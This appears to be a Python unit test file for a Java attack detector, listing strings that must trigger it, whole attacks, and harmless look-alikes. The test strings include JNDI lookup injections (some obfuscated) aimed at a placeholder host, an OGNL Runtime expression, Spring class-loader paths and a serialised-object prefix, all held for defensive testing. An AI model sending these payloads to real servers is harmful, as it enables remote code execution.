"""Attacks on Java: what must fire, and what must not."""

from services.detect.detectors.java import DETECTOR
from tests.unit.detect.detectors.cases import (
    check_attacks,
    check_fires,
    check_silent,
    header,
    query,
)

FIRES = {
    "java.jndi": [(query, "${jndi:ldap://x.example/a}"), (query, "${${lower:j}ndi:rmi://x}")],
    "java.nested-lookup": [(query, "${env:HOME}"), (query, "${${::-j}x}")],
    "java.expression": [(query, "(#a=@java.lang.Runtime@getRuntime())")],
    "java.braced-expression": [(query, "%{#context}"), (query, "${7*191}")],
    "java.class-name": [(query, "java.lang.Runtime")],
    "java.class-loader": [(query, "class.module.classLoader.resources"), (query, "redirect:${x}")],
    "java.serialised": [(query, "new java.lang.ProcessBuilder"), (query, "rO0ABXNyAAx")],
}

ATTACKS = [
    (query, "${jndi:dns://x.example/a}"),
    (query, "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}"),
    (header, "User-Agent: ${jndi:ldap://x.example/a}"),
]

SILENT = [
    (query, "the java runtime, and its process builder"),
    (query, "${price} is a placeholder"),
    (query, "I learn java and spring"),
    (query, "#hashtag"),
    (query, "100%"),
    (query, "the class of 1999"),
    (query, "java.util is a package that you can use for lists"),
]


def test_every_rule_fires_on_its_cases() -> None:
    assert sum(len(cases) for cases in FIRES.values()) == 12
    check_fires(DETECTOR, FIRES)


def test_whole_attacks_are_called_so() -> None:
    check_attacks(DETECTOR, ATTACKS)


def test_look_alikes_are_silent() -> None:
    check_silent(SILENT)
